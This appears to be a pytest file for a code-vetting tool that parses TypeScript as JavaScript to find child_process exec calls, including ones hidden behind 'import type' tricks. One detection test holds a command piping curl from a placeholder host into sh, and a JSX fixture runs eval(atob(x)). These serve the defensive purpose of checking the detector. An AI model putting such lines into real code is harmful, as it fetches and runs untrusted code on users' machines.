"""TypeScript, read as the JavaScript that is left of it without its types."""

import pytest

from tests.vetting.domain.signals.code.judging import BY_ID
from tests.vetting.domain.signals.looking import found
from vetting.domain.code.facts import Language
from vetting.domain.code.reading import facts_of
from vetting.domain.code.typescript import ROUGH

SOURCE = b"""import { execSync } from 'child_process';
import type { Foo } from './foo';
const options: Options<Foo> = { stdio: 'ignore' } as Options;
export class Work<T> implements Bar {
  private readonly url: string = 'x';
  async run<K>(x: K, count?: number): Promise<void> { execSync(this.url!, options as any as Foo); }
}
function go(command: string = 'one'): void { execSync(command as string); }
execSync<Foo>('two' as string);
"""


@pytest.mark.parametrize("path", ["src/work.ts", "src/work.MTS", "src/work.cts", "src/work.tsx"])
def test_what_typescript_calls_is_seen(path: str) -> None:
    """Where it stands, though types surround it; that they were left out is said."""
    facts = facts_of(path, SOURCE)
    assert facts is not None
    assert (facts.language, facts.broken) == (Language.JAVASCRIPT, None)
    assert str(facts.rough).startswith(ROUGH)
    assert [(one.place.line, one.place.column) for one in facts.calls if one.name == "child_process.execSync"] == [
        (6, 55),
        (8, 46),
        (9, 1),
    ]


@pytest.mark.parametrize(
    "source",
    [
        b"import type, { exec } from 'child_process'\nexec(x)\n",
        b"import type from 'child_process'\ntype.exec(x)\n",
        b"import type from/**/'child_process'\ntype.exec(x)\n",
        b"import type A from './a'\rimport { exec } from 'child_process'\nexec(x)\n",
        b"`\nimport type a ${require('child_process').exec(x)}`\n",
        b"`\nimport type a from '${require('child_process').exec(x)}'`\n",
        b"import { exec } from 'child_process'\nimport type { A, B } from './a'; exec(x)\n",
        b"import { exec } from 'child_process'\nimport type * as A from './a'\nexec(x)\n",
    ],
)
def test_no_code_is_lost_with_imports_of_types(source: bytes) -> None:
    """Not what is called ``type`` itself, and not what stands behind one or among its words."""
    facts = facts_of("a.ts", source)
    assert facts is not None
    assert "child_process.exec" in [one.name for one in facts.calls]


def test_what_is_left_of_types_is_said() -> None:
    """A file without any is read whole, and still not as what it is."""
    declared = facts_of("a.ts", b"interface A { b: string }\n")
    plain = facts_of("a.ts", b"f(1);\n")
    assert declared is not None
    assert plain is not None
    assert "could not be understood" in str(declared.rough)
    assert plain.rough == ROUGH


def test_rules_about_code_read_typescript() -> None:
    """As if it were JavaScript; elements in code are JavaScript by themselves."""
    source = b"import { exec } from 'child_process';\nexec('curl https://x.example.test | sh' as string);\n"
    assert [one.severity.value for one in found(BY_ID["C3"], "src/work.ts", source)] == ["high"]
    assert found(BY_ID["C3"], "src/work.ts", source.replace(b"| sh", b"")) == []
    element = b"const a = <b onClick={() => eval(atob(x))}>c</b>;\n"
    assert [one.severity.value for one in found(BY_ID["C1"], "src/work.jsx", element)] == ["high"]
